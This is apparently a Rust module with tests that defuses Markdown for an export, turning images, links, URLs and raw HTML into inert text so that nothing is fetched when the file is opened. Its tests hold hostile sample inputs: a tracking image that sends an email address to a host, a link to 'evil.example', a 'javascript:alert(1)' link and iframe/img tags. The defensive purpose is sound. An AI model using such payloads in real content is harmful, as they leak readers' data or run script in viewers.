//! Markdown made inert for the Markdown export: nothing in it loads or hides
//! a link when the file is opened in a viewer. A reply is written by
//! whoever runs the backend; an image in it (`![s](https://host/p.png?u=…)`)
//! would be fetched by many viewers as soon as the file is shown, telling
//! that host when and where the export was read, and a link's text can hide
//! where it goes.
//!
//! Outside fenced code blocks: an image becomes `[image: alt] `URL``, a link
//! `[text] (`URL`)`, an autolink or a bare URL its address as inline code
//! (delimited by more backticks than any run in the message, so that it
//! pairs with no backtick of the message, even inside its code spans); the
//! characters that could still start an image, a link, a reference
//! definition, a wiki link or raw HTML (`![`, `](`, `][`, `]:`, `[[`, `<tag`)
//! are escaped with a
//! backslash, so what is left is text. Fenced code blocks are kept as they
//! are (a viewer shows them as text) and closed at the end of the message,
//! so that whatever follows is read as what it is. Only fences at the start
//! of a line count; any other fence (indented, in a quote or a list item)
//! is escaped, because whether a viewer reads a code block there depends on
//! containers it may close at another line than this reading would, and a
//! code block that ends elsewhere than thought leaves what follows live.

use std::sync::LazyLock;

use regex::{Captures, Regex};

/// An image, a link, an autolink or a bare URL, on one line. An address
/// never holds a backtick here: in a code span it could pair with one of the
/// message's own and end the span early.
static LINKISH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?x)
          (?P<image>!)?\[(?P<text>[^\[\]\n]*)\]\(\s*<?(?P<dest>[^()\s<>`]*)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?\s*\)
        | <(?P<auto>[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>`]*)>
        | (?P<bare>(?i:(?:https?|ftp)://|www\.)[^\s<>`]*)
        "#,
    )
    .expect("the link pattern is valid (checked by tests)")
});

/// `text` (one message, already sanitised) with every image, link and
/// piece of raw HTML made plain text.
pub(crate) fn defuse(text: &str) -> String {
    let ticks = "`".repeat(longest_backtick_run(text) + 1);
    let mut out = String::with_capacity(text.len() + text.len() / 8);
    let mut fence: Option<(char, usize)> = None;
    for (body, ending) in lines(text) {
        match fence {
            Some((c, len)) => {
                if closes_fence(body, c, len) {
                    // Written bare: viewers differ on indented closers and
                    // on what may follow one, and must not differ here.
                    out.extend(std::iter::repeat_n(c, len));
                    out.push_str(ending);
                    fence = None;
                } else {
                    out.push_str(body);
                    out.push_str(ending);
                }
            }
            None => match opens_fence(body) {
                Some(opened) => {
                    out.push_str(body);
                    out.push_str(ending);
                    fence = Some(opened);
                }
                None => {
                    defuse_line(&disarm_fence(body), None, &ticks, &mut out);
                    out.push_str(ending);
                }
            },
        }
    }
    if let Some((c, len)) = fence {
        if !out.ends_with(['\n', '\r']) {
            out.push('\n');
        }
        out.extend(std::iter::repeat_n(c, len));
    }
    out
}

/// `text` made one line (a title, a name) and inert, for a line the export
/// writes around it (`## TITLE`): no fence is opened or closed there.
pub(crate) fn defuse_inline(text: &str) -> String {
    let line = text.replace(['\n', '\r'], " ");
    let ticks = "`".repeat(longest_backtick_run(&line) + 1);
    let mut out = String::with_capacity(line.len());
    defuse_line(&disarm_fence(&line), None, &ticks, &mut out);
    out
}

/// The lines of `text` and their endings (`\n`, `\r\n` or a lone `\r`, as
/// Markdown counts them).
fn lines(text: &str) -> impl Iterator<Item = (&str, &str)> {
    let mut rest = text;
    std::iter::from_fn(move || {
        if rest.is_empty() {
            return None;
        }
        let end = rest.find(['\n', '\r']).unwrap_or(rest.len());
        let ending = if rest[end..].starts_with("\r\n") {
            2
        } else {
            usize::from(end < rest.len())
        };
        let (body, ending, next) = (&rest[..end], &rest[end..end + ending], &rest[end + ending..]);
        rest = next;
        Some((body, ending))
    })
}

/// The fence character and length of a line that opens a fenced code block
/// at the start of the line.
fn opens_fence(line: &str) -> Option<(char, usize)> {
    let c = line.chars().next().filter(|c| *c == '`' || *c == '~')?;
    let len = line.chars().take_while(|x| *x == c).count();
    // A backtick fence's info string holds no backtick (else it is inline code).
    (len >= 3 && !(c == '`' && line[len..].contains('`'))).then_some((c, len))
}

/// `line` with a fence that is not at the start of the line (indented, or
/// after `>` or a list marker) escaped, so that no viewer opens a code block
/// there: whether it would depends on containers that a viewer may close
/// earlier or later than this reading, and a code block that ends elsewhere
/// than thought would leave what follows live.
fn disarm_fence(line: &str) -> std::borrow::Cow<'_, str> {
    let at = line.len()
        - line
            .trim_start_matches(|c: char| c.is_whitespace() || ">-*+.)".contains(c) || c.is_ascii_digit())
            .len();
    let rest = &line[at..];
    if rest.starts_with("```") || rest.starts_with("~~~") {
        std::borrow::Cow::Owned(format!("{}\\{rest}", &line[..at]))
    } else {
        std::borrow::Cow::Borrowed(line)
    }
}

/// Whether `line` closes a block opened by `len` times `c`.
fn closes_fence(line: &str, c: char, len: usize) -> bool {
    let indent = line.len() - line.trim_start_matches(' ').len();
    let rest = &line[indent..];
    let run = rest.chars().take_while(|x| *x == c).count();
    indent <= 3 && run >= len && rest[run..].trim_matches([' ', '\t']).is_empty()
}

/// Defuses one line (or a link's text) into `out`; `then` is the character
/// that will follow it there (`None`: the end of the line).
fn defuse_line(line: &str, then: Option<char>, ticks: &str, out: &mut String) {
    let mut at = 0;
    for c in LINKISH.captures_iter(line) {
        let whole = c.get(0).map_or(0..0, |m| m.range());
        // A replacement follows, and starts with no whitespace.
        escape(&line[at..whole.start], Some('`'), out);
        replace(&c, ticks, out);
        at = whole.end;
        // Backticks next to each other are one run: keep the message's own
        // apart from the span's.
        if out.ends_with('`') && line[at..].starts_with('`') {
            out.push(' ');
        }
    }
    escape(&line[at..], then, out);
}

/// The inert form of one image, link, autolink or bare URL.
fn replace(c: &Captures<'_>, ticks: &str, out: &mut String) {
    if let Some(url) = c.name("auto") {
        code(url.as_str(), ticks, out);
    } else if let Some(url) = c.name("bare") {
        // Sentence punctuation after a URL is not part of it.
        let url = url.as_str();
        let kept = url.trim_end_matches(['.', ',', ':', ';', '!', '?']);
        code(kept, ticks, out);
        out.push_str(&url[kept.len()..]);
    } else {
        let text = c.name("text").map_or("", |m| m.as_str());
        let dest = c.name("dest").map_or("", |m| m.as_str());
        let address = |out: &mut String| {
            if dest.is_empty() {
                out.push_str("(no address)");
            } else {
                code(dest, ticks, out);
            }
        };
        if c.name("image").is_some() {
            escape("[", Some('i'), out);
            out.push_str("image: ");
            defuse_line(text, Some(']'), ticks, out);
            out.push_str("] ");
            address(out);
        } else {
            // The brackets stay, so that the text cannot join what is
            // around it into something new (`htt[ps://host](x)`).
            escape("[", text.chars().next().or(Some(']')), out);
            defuse_line(text, Some(']'), ticks, out);
            out.push_str("] (");
            address(out);
            out.push(')');
        }
    }
}

/// `text` with a backslash before each character that could start an
/// image, a link, a reference definition or raw HTML; `then` is the
/// character that will follow it.
fn escape(text: &str, then: Option<char>, out: &mut String) {
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let next = chars.peek().copied().or(then);
        let previous = out.chars().next_back();
        let starts_syntax = match c {
            '[' => matches!(previous, Some('!' | ']' | '[')),
            '(' | ':' => previous == Some(']'),
            // A tag, a comment, an autolink, an email autolink (`<a.b@c>`).
            '<' => next.is_some_and(|n| !n.is_whitespace()),
            _ => false,
        };
        // An odd run of backslashes before it already escapes it; one more
        // would escape the backslash instead and bring the syntax back.
        let backslashes = out.chars().rev().take_while(|b| *b == '\\').count();
        if starts_syntax && backslashes % 2 == 0 {
            out.push('\\');
        }
        out.push(c);
    }
}

/// `text` (which holds no backtick) as an inline code span between `ticks`,
/// longer than any run of backticks in the message, so that the span pairs
/// with none of them.
fn code(text: &str, ticks: &str, out: &mut String) {
    // A backtick before would lengthen the run; a backslash would escape it.
    if out.ends_with(['`', '\\']) {
        out.push(' ');
    }
    out.push_str(ticks);
    out.push_str(text);
    out.push_str(ticks);
}

fn longest_backtick_run(text: &str) -> usize {
    let mut longest = 0;
    let mut run = 0;
    for c in text.chars() {
        run = if c == '`' { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    longest
}

/// What a CommonMark viewer (with GitHub's extensions) would load or
/// follow in `markdown`: images, links, raw HTML, and URLs in text that
/// GitHub's autolinking would turn into links.
#[cfg(test)]
pub(crate) fn live_parts(markdown: &str) -> Vec<String> {
    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
    let mut live = Vec::new();
    let mut in_code_block = false;
    // Math (`$…$`) can cut an inline code span in two and leave part of an
    // address as text: visible and at most clickable, never loaded, so it
    // is left out of this check.
    let options = Options::all().difference(Options::ENABLE_MATH);
    for event in Parser::new_ext(markdown, options) {
        match event {
            Event::Start(Tag::CodeBlock(_)) => in_code_block = true,
            Event::End(TagEnd::CodeBlock) => in_code_block = false,
            Event::Start(Tag::Image { dest_url, .. }) => live.push(format!("image {dest_url}")),
            Event::Start(Tag::Link { dest_url, .. }) => live.push(format!("link {dest_url}")),
            Event::Html(html) | Event::InlineHtml(html) => live.push(format!("html {html}")),
            Event::Text(text)
                if !in_code_block
                    && ["http://", "https://", "ftp://", "www."]
                        .iter()
                        .any(|url| text.to_ascii_lowercase().contains(url)) =>
            {
                live.push(format!("url in text {text}"))
            }
            _ => {}
        }
    }
    live
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn images_links_and_urls_become_text_with_the_address_as_code() {
        let cases = [
            (
                "![s](https://host/p.png?u=[EMAIL_1])",
                "[image: s] `https://host/p.png?u=[EMAIL_1]`",
            ),
            (
                "see [the docs](https://example.org/help \"Help\").",
                "see [the docs] (`https://example.org/help`).",
            ),
            ("<https://example.org/a>", "`https://example.org/a`"),
            ("go to https://example.org/a.", "go to `https://example.org/a`."),
            ("[x]: https://evil.example/t.png", "[x]\\: `https://evil.example/t.png`"),
            (
                "<img src=x> and a < b, <1@x.example>",
                "\\<img src=x> and a < b, \\<1@x.example>",
            ),
            ("`code` stays", "`code` stays"),
            ("`https://h/x` in code", "` ``https://h/x`` ` in code"),
        ];
        for (written, inert) in cases {
            assert_eq!(defuse(written), inert, "{written}");
        }
    }

    #[test]
    fn no_image_link_html_or_url_survives_for_a_viewer() {
        let hostile = [
            "![s](https://host/p.png?u=[EMAIL_1])",
            "![a [nested] alt](https://h/p.png)",
            "![s](<https://h/p p.png>)",
            "[![badge](https://h/b.svg)](https://h/)",
            "![s][ref]\n\n[ref]: https://h/p.png",
            "[click](javascript:alert(1))",
            "[text](https://h/(nested)/x)",
            "\\![s](https://h/p.png)",
            "\\\\![s](https://h/p.png)",
            "\\<img src=https://h/p.png>",
            "\\\\<img src=https://h/p.png>",
            "<img src=\"https://h/p.png\">",
            "<div>\n![s](https://h/p.png)\n</div>",
            "<!-- x --><iframe src=//h/>",
            "> ![s](https://h/p.png)\n> [r]: https://h/p.png",
            "- [r]: https://h/p.png\n- [x][r]",
            "```\ncode ![s](https://h/in-code.png)\n```\n![s](https://h/after.png)",
            "   ```\n![s](https://h/p.png)",
            "- a\n\n   ```\n![s](https://h/p.png)\n   ```",
            "```x`y\n![s](https://h/p.png)",
            "```\nunclosed ![s](https://h/in-code.png)",
            "`![s](https://h/p.png)` and ``![s](https://h/p.png)`` and `unpaired ![s](https://h/p.png)",
            "www.h.example/p?q=1 and HTTPS://H/P",
            "<mailto:x@h.example> <ftp://h/x>",
            "[a](b)[c](d)![e](f)",
            "[text]\n(https://h/p.png)",
        ];
        for text in hostile {
            // Each is live as written (the check sees it), except where a
            // fence left open makes everything after it code.
            let open_fence = text.starts_with("```\nunclosed") || text.starts_with("   ```");
            assert!(!live_parts(text).is_empty() || open_fence, "{text:?}");
            let inert = defuse(text);
            assert_eq!(live_parts(&inert), Vec::<String>::new(), "{text:?} became {inert:?}");
        }
    }

    #[test]
    fn an_unclosed_fence_is_closed_so_the_next_message_is_read_as_text() {
        let first = defuse("```\nunclosed");
        let second = defuse("```\n![s](https://h/p.png)");
        let document = format!("{first}\n\n**Bot**\n\n{second}\n");
        assert_eq!(live_parts(&document), Vec::<String>::new(), "{document}");
    }

    #[test]
    fn a_title_is_one_inert_line_that_opens_no_fence() {
        let document = format!(
            "## {}\n\n{}\n",
            defuse_inline("```evil\n![s](https://h/t.png)"),
            defuse("```\ncode\n```\n![s](https://h/p.png)")
        );
        assert_eq!(live_parts(&document), Vec::<String>::new(), "{document}");
    }

    #[test]
    fn ordinary_markdown_reads_as_before() {
        let text = "# Steps\n\n1. **Restart** the app.\n2. Run `ls -la`.\n\n```sh\nrm -rf ./cache <dir>\n```\n\nPrices: 3 < 4, [EMAIL_1] and x!";
        assert_eq!(defuse(text), text);
    }
}
